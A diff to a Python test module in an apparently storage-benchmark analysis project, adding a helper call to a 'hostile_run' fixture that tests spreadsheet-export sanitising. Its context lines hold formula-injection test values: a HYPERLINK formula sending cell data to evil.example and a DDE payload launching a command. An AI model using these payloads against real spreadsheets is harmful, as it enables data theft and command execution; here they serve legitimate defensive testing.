@@ -14,6 +14,7 @@ from analysis.datasets.spreadsheet import FORMULA_PREFIXES, spreadsheet_safe
 from analysis.datasets.tables import TABLES, Column
 from analysis.models import Measurement
 from analysis.tests.factories import HostFactory, SteadyStateWindowFactory, iops_run
+from analysis.tests.surface_factory import surface_run
 
 NAME = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
 FIRMWARE = "-2+3+cmd|' /C calc'!A0"
@@ -31,6 +32,7 @@ def hostile_run(db):
     )
     SteadyStateWindowFactory(test_run=run)
     Measurement.objects.filter(test_run=run).update(write_iops=-5.0)
+    surface_run(**{k: getattr(run, k) for k in ("submission", "drive_model", "firmware", "unit", "host", "pcie_link")})
     return run
 
 
